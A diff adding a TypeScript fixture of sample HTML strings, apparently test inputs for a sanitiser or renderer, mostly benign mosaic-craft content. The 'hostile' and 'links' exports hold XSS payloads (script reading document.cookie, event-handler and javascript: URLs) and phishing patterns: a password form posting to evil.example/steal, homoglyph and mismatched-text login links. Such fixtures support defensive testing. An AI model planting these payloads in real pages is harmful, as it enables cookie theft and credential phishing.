@@ -1,0 +1,104 @@
+/** Article by a trusted author, with everything that prose has. */
+export const article = `
+<h1>Laying a mosaic floor</h1>
+<p>A mosaic lives from its <em>andamento</em>, the flow of its rows. Lay the outline first, then work
+<strong>from the edge to the middle</strong>, and keep the joints under 2&nbsp;mm.<sup>1</sup></p>
+<h2 id="tools">Tools</h2>
+<ul>
+  <li>Wheeled nippers, for glass</li>
+  <li>Hammer and hardie, for stone
+    <ul><li>keep the hardie oiled</li></ul>
+  </li>
+  <li>A <code>1.5 mm</code> notched trowel</li>
+</ul>
+<blockquote cite="https://example.org/cennini"><p>First the ground, and all else after it.</p></blockquote>
+<h2>Steps</h2>
+<ol>
+  <li>Soak the ground.</li>
+  <li>Spread as much mortar as you can lay in <time datetime="PT20M">twenty minutes</time>.</li>
+  <li>Press <kbd>firmly</kbd>, wipe, wait.</li>
+</ol>
+<pre><code class="language-ini">[mortar]
+sand = 3
+lime = 1</code></pre>
+<table>
+  <caption>Curing times</caption>
+  <thead><tr><th scope="col">Ground</th><th scope="col">Days</th></tr></thead>
+  <tbody><tr><td>Lime</td><td>28</td></tr><tr><td>Cement</td><td>7</td></tr></tbody>
+</table>
+<details open><summary>Why so long?</summary><p>Lime hardens with air, from the outside in.</p></details>
+<hr>
+<p><small>1 See <a href="#tools">the tools</a> and <a href="https://example.org/joints">the guide to joints</a>.</small></p>`;
+
+/** Comment by a stranger. */
+export const comment = `<p>Great guide! I would <mark>soak twice</mark> in summer: <a href="https://example.org/tips">my notes</a>.</p>
+<ul><li>morning: <code>30 min</code></li><li>evening: <code>15 min</code></li></ul>
+<p>Ping <b>@ruth</b> if you are <s>late</s> early.</p>`;
+
+/** Newsletter as a mail programme writes it. */
+export const newsletter = `
+<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f0ea"><tr><td align="center">
+<table width="480" cellpadding="16" cellspacing="0" bgcolor="#ffffff" style="border: 1px solid #d9d2c5">
+<tr><td><img src="https://images.example.com/header.png" alt="Tile &amp; Grout, issue 14" width="448" height="96"></td></tr>
+<tr><td style="font-family: Georgia, serif; color: #333333; line-height: 24px">
+<h2 style="color: #8a3324; font-size: 22px">Spring colours</h2>
+<p>Dear reader, the kilns are warm again. <font color="#8a3324"><b>Smalti</b></font> in forty new tones are in the shop from Monday.</p>
+<p><a href="https://example.com/shop">See the colours</a></p></td></tr>
+<tr><td style="background-image: url('https://images.example.com/sand.png'); font-size: 12px; color: #666666">You get this letter because you asked for it.
+<img src="https://track.example.net/open.gif?u=77" width="1" height="1" alt=""></td></tr>
+</table></td></tr></table>`;
+
+/** Text with pictures of other sites. */
+export const withPictures = `<p>Two pictures from the workshop:</p>
+<p><img src="https://images.example.com/bench.jpg" alt="Workbench with trays of cut glass, sorted by colour" width="320" height="180">
+<img src="https://images.example.com/floor.jpg" alt="Finished floor" width="200" height="180"></p>
+<p>The second one was taken after the last wash.</p>`;
+
+/** HTML that tries what attackers try. */
+export const hostile = `<h2 onclick="alert(1)">You have won!</h2>
+<script>alert(document.cookie)</script>
+<p style="position:fixed;inset:0;background:url(https://evil.example/x)">Click <a href="javascript:alert(1)">here</a>
+or <a href="https://xn--pple-43d.example/login">sign in</a>.</p>
+<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label><button>Send</button></form>
+<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"><text>Hello</text></svg>
+<img src="https://evil.example/pixel.gif" alt="" width="1" height="1" onerror="alert(1)">
+<custom-card>Only its words stay.</custom-card>`;
+
+/** Links to this page, to others, and to some that are not what they seem. */
+export const links = `<ul>
+<li><a href="#here">a part of this text</a></li>
+<li><a href="/basket">a page of this site</a></li>
+<li><a href="https://example.org/guide">a page of another site</a></li>
+<li><a href="https://аррӏе.example/">аррӏе.example</a>, spelt with Cyrillic letters</li>
+<li><a href="https://evil.example/login">https://bank.example/login</a>, which leads elsewhere</li>
+<li><a href="mailto:ruth@example.org">Ruth</a> and <a href="tel:+4930123456">her telephone</a></li>
+<li><a href="javascript:alert(1)">a script</a></li>
+</ul>`;
+
+/** Table and code that are wider than a phone. */
+export const wide = `<table><thead><tr>${[
+  'Kiln',
+  'Loaded',
+  'Fired',
+  'Opened',
+  'Highest temperature',
+  'Remarks',
+]
+  .map((name) => `<th scope="col">${name}</th>`)
+  .join('')}</tr></thead><tbody>${['North', 'South']
+  .map(
+    (kiln) =>
+      `<tr><th scope="row">${kiln}</th><td>2026-04-08</td><td>2026-04-09</td><td>2026-04-11</td><td>1&nbsp;060&nbsp;°C</td><td>Even, with a long soak at the top</td></tr>`,
+  )
+  .join('')}</tbody></table>
+<pre><code>kiln --name north --ramp 150 --soak 45 --top 1060 --cool slow --log /var/log/kiln/north.log</code></pre>
+<p>Donaudampfschifffahrtsgesellschaftskapitänsmützenfabrikverkaufsstelle and
+https://example.org/a/very/long/address/that/nobody/broke/into/parts/because/it/is/one/word</p>`;
+
+/** Blocks in languages that run both ways. */
+export const directions = `<h2>مرحبا بالجميع</h2>
+<p>هذه فقرة بالعربية مع <a href="https://example.org/ar">رابط</a>.</p>
+<p lang="en">This paragraph is English and begins on the left.</p>
+<ul><li>عنصر أول</li><li>Second item</li></ul>
+<blockquote><p>اقتباس قصير</p></blockquote>
+<p lang="ja">日本語の段落には<ruby>漢字<rp>(</rp><rt>かんじ</rt><rp>)</rp></ruby>があります。</p>`;
